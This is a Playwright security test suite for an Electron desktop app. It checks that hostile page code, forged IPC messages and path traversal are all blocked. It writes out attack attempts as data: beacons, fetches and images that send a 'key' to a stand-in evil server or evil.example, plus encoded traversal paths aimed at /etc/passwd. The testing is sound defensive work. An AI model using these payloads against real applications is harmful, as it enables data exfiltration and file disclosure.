import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import type { ElectronApplication } from '@playwright/test';
import { type DesktopDriver, startOnDesktop } from './desktop-driver.ts';
import { expect, test } from './fixtures.ts';

/**
 * Attempts of hostile code that runs in the page, without the page's content security policy. Each test
 * asserts that nothing reached the other server, and that the window still shows the app.
 */

type Evil = { origin: string; asked: string[]; server: Server };

let evil: Evil;
/** An app of this file alone: its window ignores the page's content security policy. */
let victim: DesktopDriver;

async function startEvil(): Promise<Evil> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    if (request.url?.startsWith('/away')) response.writeHead(302, { location: '/landed' });
    response.end('<!doctype html><title>Evil</title>');
  });
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

/** Gives the main process and the page time to finish what they were asked before. */
async function settle({ app }: DesktopDriver): Promise<void> {
  const page = await app.firstWindow();
  for (let round = 0; round < 3; round += 1) {
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
    await app.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
  }
}

const opened = ({ app }: DesktopDriver): Promise<string[]> =>
  app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened.splice(0));

const ATTEMPTS: Record<string, (evil: string) => void> = {
  'a navigation': (evil) => void location.assign(`${evil}/navigation`),
  'a link': (evil) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = `${evil}/link`;
    link.click();
  },
  'a form': (evil) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = `${evil}/form`;
    form.method = 'post';
    form.submit();
  },
  'a frame': (evil) => {
    const frame = document.createElement('iframe');
    frame.src = `${evil}/frame`;
    document.body.append(frame);
  },
  'a frame that navigates': (evil) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow?.location.assign(`${evil}/inner`);
  },
  'a window': (evil) => void window.open(`${evil}/window`),
  'a window for https elsewhere': () => void window.open('https://evil.example/?key=a'),
  'a window for a mail': () => void window.open('mailto:evil@evil.example?body=a'),
  'a window without opener': (evil) => void window.open(`${evil}/noopener`, '_blank', 'noopener'),
  'a link to a new window': (evil) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: `${evil}/blank`, target: '_blank' });
    link.click();
  },
  'a request': (evil) => void fetch(`${evil}/fetch`, { mode: 'no-cors' }).catch(() => undefined),
  'a request that outlives the page': (evil) =>
    void fetch(`${evil}/kept`, { mode: 'no-cors', keepalive: true }).catch(() => undefined),
  'a beacon': (evil) => void navigator.sendBeacon(`${evil}/beacon`, 'a key'),
  'an image': (evil) => {
    new Image().src = `${evil}/image?key=a`;
  },
  'a style': (evil) => {
    const link = document.head.appendChild(document.createElement('link'));
    Object.assign(link, { rel: 'stylesheet', href: `${evil}/style` });
  },
  'a connection made ahead': (evil) => {
    const link = document.head.appendChild(document.createElement('link'));
    Object.assign(link, { rel: 'preconnect', href: `${evil}/preconnect` });
  },
  'a web socket': (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket`),
  'events of a server': (evil) => void new EventSource(`${evil}/events`),
  'the ping of a link': (evil) => {
    const link = document.body.appendChild(document.createElement('a'));
    Object.assign(link, { href: '#', ping: `${evil}/ping` });
    link.click();
  },
  'a worker': (evil) => {
    const code = `fetch('${evil}/worker', { mode: 'no-cors' }); new WebSocket('${evil.replace('http', 'ws')}/worker')`;
    // The page's trusted types are part of its policy, so they do not block this.
    void new Worker(URL.createObjectURL(new Blob([code])));
  },
  'a shared worker': (evil) => {
    const code = `fetch('${evil}/shared', { mode: 'no-cors' })`;
    void new SharedWorker(URL.createObjectURL(new Blob([code])));
  },
  'a file': () => void location.assign('file:///etc/passwd'),
  'a page of data': () => void location.assign('data:text/html,<title>Evil</title>'),
};

test.describe('@desktop-only what a hostile page tries', () => {
  test.beforeAll(async ({ target }) => {
    evil = await startEvil();
    victim = await startOnDesktop(target, { bypassCSP: true });
    await victim.app.evaluate(({ shell }) => {
      const opened: string[] = [];
      Object.assign(globalThis, { opened });
      shell.openExternal = async (url) => void opened.push(url);
    });
  });
  test.afterAll(async () => {
    await victim.stop();
    evil.server.closeAllConnections();
    evil.server.close();
  });

  // All attempts run one after another in one page, because none of them leaves it.
  test('every attempt fails @soak', async () => {
    const page = await victim.openPage(undefined as never);
    const before = page.url().split('#')[0];
    for (const [name, attempt] of Object.entries(ATTEMPTS)) {
      await test.step(name, async () => {
        const frames = page.frames().length;
        await page
          .evaluate(attempt, evil.origin)
          .catch((error: unknown) => expect(String(error)).not.toContain('closed'));
        await settle(victim);
        expect(evil.asked).toEqual([]);
        // The link with a ping leads to the present page.
        expect(page.url().split('#')[0]).toBe(before);
        await expect(page).toHaveTitle(/Almanac/);
        expect(await victim.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(
          1,
        );
        // No attempt opens the person's browser either.
        expect(await opened(victim)).toEqual([]);
        const texts = await Promise.all(
          page
            .frames()
            .slice(frames)
            .map((frame) => frame.evaluate(() => document.title).catch(() => '')),
        );
        expect(texts).not.toContain('Evil');
      });
    }
    await page.reload();
  });

  test('WebRTC may use no UDP', async () => {
    await victim.openPage(undefined as never);
    const policies = await victim.app.evaluate(({ webContents }) =>
      webContents.getAllWebContents().map((each) => each.getWebRTCIPHandlingPolicy()),
    );
    expect(new Set(policies)).toEqual(new Set(['disable_non_proxied_udp']));
  });

  test('WebRTC has no UDP, and over TCP reaches only this machine’s own address @soak', async () => {
    const page = await victim.openPage(undefined as never);
    // Not the service's address, but still on this machine, so that nothing leaves it.
    const elsewhere = '127.0.0.2';
    const heard: string[] = [];
    const udp = createSocket('udp4', () => heard.push('udp'));
    await new Promise<void>((resolve) => udp.bind(0, elsewhere, resolve));
    const tcp = createTcpServer((socket) => {
      heard.push('tcp');
      socket.on('error', () => undefined);
    });
    await new Promise<void>((resolve) => tcp.listen(0, elsewhere, resolve));
    const servers = [
      // The stand-in's Chromium takes its WebRTC policy only at its start.
      ...(victim.kind === 'standin' ? [] : [{ urls: `stun:${elsewhere}:${udp.address().port}` }]),
      {
        urls: `turn:${elsewhere}:${(tcp.address() as AddressInfo).port}?transport=tcp`,
        username: 'a key',
        credential: 'x',
      },
    ];
    await page.evaluate(async (iceServers) => {
      const connection = new RTCPeerConnection({ iceServers });
      const failed = new Promise((resolve) => {
        connection.addEventListener('icecandidateerror', resolve);
        connection.addEventListener('icegatheringstatechange', () => {
          if (connection.iceGatheringState === 'complete') resolve(undefined);
        });
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
      await failed;
      connection.close();
    }, servers);
    await settle(victim);
    udp.close();
    tcp.close();
    expect(heard).toEqual([]);
  });

  test('a window for https is opened in the person’s browser, and never in ours', async () => {
    const page = await victim.openPage(undefined as never);
    await page.evaluate(() => void window.open('https://fred.stlouisfed.org/series/GDP'));
    await expect.poll(() => opened(victim)).toEqual(['https://fred.stlouisfed.org/series/GDP']);
    expect(victim.app.windows()).toHaveLength(1);
  });

  test('a load of another origin by the app itself sends no request', async () => {
    const page = await victim.openPage(undefined as never);
    const home = page.url();
    const outcome = await victim.app.evaluate(async ({ BrowserWindow }, url) => {
      const [window] = BrowserWindow.getAllWindows();
      return window?.loadURL(url).then(
        () => 'loaded',
        () => 'refused',
      );
    }, `${evil.origin}/away`);
    expect(outcome).toBe('refused');
    expect(evil.asked).toEqual([]);
    await victim.app.evaluate(
      ({ BrowserWindow }, url) => BrowserWindow.getAllWindows()[0]?.loadURL(url),
      home,
    );
  });

  test('all permissions except writing to the clipboard are refused', async () => {
    const page = await victim.openPage(undefined as never);
    await page.reload();
    const refused = () =>
      page.evaluate(async () => {
        const settled = await Promise.all([
          Notification.requestPermission(),
          new Promise<string>((resolve) => {
            navigator.geolocation.getCurrentPosition(
              () => resolve('granted'),
              (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'other'),
            );
          }),
          navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state),
          navigator.permissions
            .query({ name: 'clipboard-read' as PermissionName })
            .then(({ state }) => state),
          navigator.mediaDevices.getUserMedia({ audio: true }).then(
            () => 'granted',
            () => 'denied',
          ),
        ]);
        return [...new Set(settled)];
      });
    await expect.poll(refused).toEqual(['denied']);
    const mayWrite = () =>
      page.evaluate(() =>
        navigator.permissions.query({ name: 'clipboard-write' as PermissionName }).then(({ state }) => state),
      );
    await expect.poll(mayWrite).toBe('granted');
  });
});

/** Messages and requests that reach the built main process from a wrong sender. */

type Sent = {
  channel: string;
  frame: 'own' | 'null' | 'inner' | 'elsewhere';
  sender: 'own' | 'unknown';
  input: unknown;
};

/** Calls the handler of a channel with a made-up event, as `ipcMain` would. */
function send(app: ElectronApplication, sent: Sent): Promise<string> {
  return app.evaluate(async ({ ipcMain, BrowserWindow }, { channel, frame, sender, input }) => {
    const handlers = (
      ipcMain as unknown as { _invokeHandlers: Map<string, (event: object, input: unknown) => unknown> }
    )._invokeHandlers;
    const [window] = BrowserWindow.getAllWindows();
    const own = window?.webContents.mainFrame;
    const frames = {
      own,
      null: null,
      inner: { origin: own?.origin, url: own?.url, parent: own },
      elsewhere: { origin: 'https://evil.example', url: 'https://evil.example/', parent: null },
    };
    const event = {
      senderFrame: frames[frame],
      sender: sender === 'own' ? window?.webContents : { id: 4_711 },
    };
    try {
      const answer = await handlers.get(channel)?.(event, input);
      return `answered ${JSON.stringify(answer)}`;
    } catch (error) {
      return `refused: ${(error as Error).message}`;
    }
  }, sent);
}

test.describe('@desktop-only hostile messages', () => {
  const fine = { channel: 'almanac:set-theme', frame: 'own', sender: 'own', input: 'auto' } as const;

  test('a message of the right shape from the page is answered', async ({ desktop, page }) => {
    await expect(page).toHaveTitle(/Almanac/);
    expect(await send(desktop.app, fine)).toBe('answered null');
  });

  test('a message from elsewhere is refused on every channel', async ({ desktop }) => {
    const channels = await desktop.app.evaluate(({ ipcMain }) => [
      ...(ipcMain as unknown as { _invokeHandlers: Map<string, unknown> })._invokeHandlers.keys(),
    ]);
    expect(channels.length).toBeGreaterThan(3);
    for (const [name, wrong] of Object.entries({
      'from no frame': { frame: 'null' },
      'from a frame inside the page': { frame: 'inner' },
      'from another origin': { frame: 'elsewhere' },
      'from contents that are no window of ours': { sender: 'unknown' },
    } as const)) {
      for (const channel of channels) {
        expect(await send(desktop.app, { ...fine, channel, ...wrong }), name).toMatch(
          /^refused: .* not for this sender/,
        );
      }
    }
  });

  test('every channel refuses inputs that it does not know', async ({ desktop }) => {
    for (const [channel, inputs] of Object.entries({
      'almanac:set-theme': ['purple', null, 7, ['dark'], { theme: 'dark' }],
      'almanac:offer': [
        null,
        { screens: [], actions: ['format-disk'] },
        { screens: [{ path: '//evil.example/', title: 'x' }], actions: [] },
        { screens: [{ path: '/x', title: 'x'.repeat(500) }], actions: [] },
        { screens: [], actions: [], more: 1 },
      ],
      'almanac:choose-file': ['/etc/passwd', { path: '/etc/passwd' }],
      'almanac:reveal-download': ['/etc/passwd', {}],
      'almanac:window-action': ['format-disk', null, ['quit']],
      'almanac:open-data-folder': ['/etc', {}],
      'almanac:next-command': [{ t: 'go' }, 1],
    })) {
      for (const input of inputs) {
        expect(await send(desktop.app, { ...fine, channel, input }), channel).toMatch(
          /^refused: .* does not take this/,
        );
      }
    }
  });

  test('a webview is never attached', async ({ desktop }) => {
    const isPrevented = await desktop.app.evaluate(({ BrowserWindow }) => {
      let isStopped = false;
      const event = { preventDefault: () => (isStopped = true) };
      const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as NodeJS.EventEmitter;
      contents.emit('will-attach-webview', event, {}, { src: 'https://evil.example/' });
      return isStopped;
    });
    expect(isPrevented).toBe(true);
  });

  test.describe('by path', () => {
    test.use({ expectedErrors: [/status of 40[134]|http:\/\/etc\/passwd/] });
    test('paths that lead out of the page’s files give nothing from the disk', async ({ page }) => {
      const paths = [
        '/../../../../etc/passwd',
        '/..%2f..%2f..%2f..%2fetc%2fpasswd',
        '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
        '/%252e%252e%252f%252e%252e%252fetc%252fpasswd',
        '/..\\..\\..\\etc\\passwd',
        '/..%5c..%5c..%5cetc%5cpasswd',
        '/assets/%00/../../../../etc/passwd',
        '/index.html%00.png',
        '//etc/passwd',
        '/assets/../../host/main.js',
        '/..%2f..%2fpackage.json',
        '/.%2e/main.js',
      ];
      const own = await page.evaluate(() => fetch('/').then((answer) => answer.text()));
      for (const path of paths) {
        const answer = await page.evaluate(async (target) => {
          const got = await fetch(target).catch(() => undefined);
          return { status: got?.status ?? 0, text: (await got?.text()) ?? '' };
        }, path);
        expect(answer.text, path).not.toMatch(/root:|"dependencies"|runService/);
        // The answer is a refusal, or the page that every unknown address shows.
        if (answer.status === 200) expect(answer.text, path).toBe(own);
        else expect([0, 400, 401, 403, 404], path).toContain(answer.status);
      }
    });
  });
});
